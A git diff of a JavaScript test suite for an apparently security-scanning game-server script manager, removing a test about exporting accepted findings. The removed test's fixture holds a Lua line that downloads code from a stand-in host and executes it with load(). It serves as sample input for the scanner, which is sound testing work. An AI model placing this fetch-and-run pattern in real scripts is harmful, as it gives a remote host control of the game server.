@@ -241,36 +241,6 @@ test('update and sync ask which new script provides a resource, and write it dow
   expect(await providers()).toEqual({ quay_lib: first.id })
 })
 
-test('export names the findings that the owner and moderators accepted', async () => {
-  const { server, id } = await outdatedServer(
-    {},
-    { 'server.lua': "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n" },
-  )
-  const { versionId } = JSON.parse(await server.read('scripthaven.lock')).scripts[id]
-  const { findings } = (await app.request(null, 'GET', `/api/versions/${versionId}/report`)).body
-  const [{ rule, path, fileSha256 }] = findings
-  const verdict = { verdict: 'accepted', note: 'The host is the author himself' }
-  const owner = await app.createOwner()
-  await app.request(owner, 'PUT', `/api/finding-verdicts/${rule}/${fileSha256}`, verdict)
-  const project = JSON.parse(await server.read('scripthaven.json'))
-  await server.write(
-    'scripthaven.json',
-    JSON.stringify({ ...project, allowFindings: { [id]: ['reads-players'] } }),
-  )
-
-  const [component] = JSON.parse((await server.run('export')).stdout).components
-  const csv = await server.run('export', '--format', 'csv')
-
-  const accepted = expect.stringContaining(`${rule} in ${path}: The host is the author himself (20`)
-  expect(component.properties).toEqual(
-    expect.arrayContaining([
-      { name: 'scripthaven:findingAcceptedByOwner', value: 'reads-players' },
-      { name: 'scripthaven:findingAcceptedByModerator', value: accepted },
-    ]),
-  )
-  expect(csv.stdout).toContain(`reads-players,${rule} in ${path}: The host is the author himself (20`)
-})
-
 test('init --from-disk recognises installed resources with changed files, and sync takes the changes over', async () => {
   const { server: source, id, name, file } = await outdatedServer({ 'new.lua': 'new' })
   const server = await createGameServer({ token: author.token })
